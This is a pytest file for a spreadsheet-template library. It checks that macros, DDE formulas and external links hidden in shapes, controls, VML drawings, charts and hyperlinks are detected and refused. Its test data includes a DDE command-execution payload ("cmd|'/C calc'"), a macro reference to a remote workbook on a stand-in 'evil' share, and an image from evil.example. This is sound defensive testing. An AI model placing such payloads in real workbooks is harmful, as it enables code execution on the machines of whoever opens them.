"""Macros and formulas of what stands on a sheet: shapes, charts, controls, VML, hyperlinks."""

import pytest
from xlsx_templates import filled, patched, rezipped, template

from livesheets.allow import WORDS
from livesheets.engine.active import Active, find_active
from livesheets.errors import TemplateError
from livesheets.package import open_package

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
SHEET = "xl/worksheets/sheet4.xml"
KINDS = {
    "drawing": "application/vnd.openxmlformats-officedocument.drawing+xml",
    "vmlDrawing": "application/vnd.openxmlformats-officedocument.vmlDrawing",
    "ctrlProp": "application/vnd.ms-excel.controlproperties+xml",
    "chartUserShapes": "application/vnd.openxmlformats-officedocument.drawingml.chartshapes+xml",
}


def on_a_sheet(kind, content, *, declared="", element="", part="xl/drawings/drawing9.xml"):
    """Return the template with a part on its last sheet, with the sheet's element that shows it."""
    arrow = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="/{part}"/>'
    arrows = f'<Relationships xmlns="{PACKAGE}">{arrow}</Relationships>'.encode()
    override = f'<Override PartName="/{part}" ContentType="{declared or KINDS[kind]}"/></Types>'
    shown = element or {"drawing": "drawing", "vmlDrawing": "legacyDrawing"}.get(kind, "")
    data = patched(template(), "[Content_Types].xml", ("</Types>", override))
    if shown:
        tail = f'<{shown} xmlns:r="{OFFICE}" r:id="rId1"/></worksheet>'
        data = patched(data, SHEET, ("</worksheet>", tail))
    new = [("xl/worksheets/_rels/sheet4.xml.rels", arrows), (part, content.encode())]
    return rezipped(lambda entries: [*entries, *new], data)


def shape(attributes, name="sp"):
    """Return a drawing with one object."""
    space = f"{DRAWING}/spreadsheetDrawing"
    return f'<xdr:wsDr xmlns:xdr="{space}"><xdr:oneCellAnchor><xdr:{name} {attributes}/></xdr:oneCellAnchor></xdr:wsDr>'


def vml(inside):
    """Return a drawing in VML, as Excel writes it for controls and notes: not always clean XML."""
    return (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        f'<v:shape><v:textbox><div>a<br>b</div></v:textbox><x:ClientData ObjectType="Button">{inside}</x:ClientData>'
        "</v:shape></xml>"
    )


def hyperlink(location):
    """Return the template with a hyperlink on its last sheet."""
    link = f'<hyperlinks><hyperlink ref="A1" location="{location}"/></hyperlinks><pageMargins'
    return patched(template(), SHEET, ("<pageMargins", link))


EVIL = "'\\\\evil\\s\\[x.xlsm]M'!Evil"
DDE = "cmd|'/C calc'!A0"
D, V = "xl/drawings/drawing9.xml", "xl/drawings/vmlDrawing9.vml"
CHART = "<c:numRef><c:f>"
FOUND = {
    "macro of a shape": (on_a_sheet("drawing", shape(f'macro="{EVIL}"')), "macros", D),
    "macro of a picture": (on_a_sheet("drawing", shape('macro="[1]!Evil"', "pic")), "macros", D),
    "macro of a chart's frame": (on_a_sheet("drawing", shape('macro="[0]!X"', "graphicFrame")), "macros", D),
    "macro of a part that calls itself a picture": (
        on_a_sheet("drawing", shape('macro="Evil"'), declared="image/png"),
        "macros",
        D,
    ),
    "macro of a control": (
        on_a_sheet("ctrlProp", '<formControlPr macro="Evil"/>', part="xl/ctrlProps/ctrlProp1.xml"),
        "macros",
        "xl/ctrlProps/ctrlProp1.xml",
    ),
    "macro of a control in VML": (
        on_a_sheet("vmlDrawing", vml(f"<x:FmlaMacro>{EVIL}</x:FmlaMacro>"), part=V),
        "macros",
        V,
    ),
    "macro of a shape in a chart": (
        on_a_sheet("chartUserShapes", '<c:userShapes xmlns:c="c"><c:sp macro="Evil"/></c:userShapes>'),
        "macros",
        D,
    ),
    "DDE in a text link": (on_a_sheet("drawing", shape(f'macro="" textlink="{DDE}"')), "dde", D),
    "another workbook in a text link": (
        on_a_sheet("drawing", shape("textlink=\"'[rates.xlsx]Sheet 1'!A1\"")),
        "external-links",
        D,
    ),
    "DDE in a control's cell": (on_a_sheet("vmlDrawing", vml(f"<x:FmlaLink>{DDE}</x:FmlaLink>"), part=V), "dde", V),
    "a picture from the web in VML": (
        on_a_sheet("vmlDrawing", vml('<v:imagedata src="https://evil.example/x.png"/>'), part=V),
        "external-links",
        V,
    ),
    "DDE in a chart": (
        patched(template(), "xl/charts/chart1.xml", ("<f>", f"<f>{DDE},")),
        "dde",
        "xl/charts/chart1.xml",
    ),
    "DDE in a hyperlink": (hyperlink(DDE), "dde", SHEET),
    "another workbook in a hyperlink": (hyperlink("'[rates.xlsx]Sheet 1'!A1"), "external-links", SHEET),
}


@pytest.mark.parametrize(("data", "word", "place"), FOUND.values(), ids=FOUND)
def test_active_objects_need_their_word(data, word, place, tmp_path):
    """Each is told by its word and its part, and refused without the word."""
    assert find_active(open_package(data)) == [Active(word, place)]
    with pytest.raises(TemplateError, match=rf"active content: {word} .* --allow {word}$"):
        filled(tmp_path, data, allow=WORDS.keys() - {word})


HARMLESS = {
    "no macro": on_a_sheet("drawing", shape('macro="" textlink="Models!$A$1"')),
    "a note": on_a_sheet("vmlDrawing", vml("<x:Row>1</x:Row>"), part=V),
    "a control's cell": on_a_sheet("vmlDrawing", vml("<x:FmlaLink>Models!$A$1</x:FmlaLink>"), part=V),
    "an empty drawing": on_a_sheet("vmlDrawing", "", part=V),
    "a place in the workbook": hyperlink("'Models'!A1"),
}


@pytest.mark.parametrize("data", HARMLESS.values(), ids=HARMLESS)
def test_harmless_objects_pass(data):
    """Shapes without macros, notes, and links into the workbook are no active content."""
    assert find_active(open_package(data)) == []
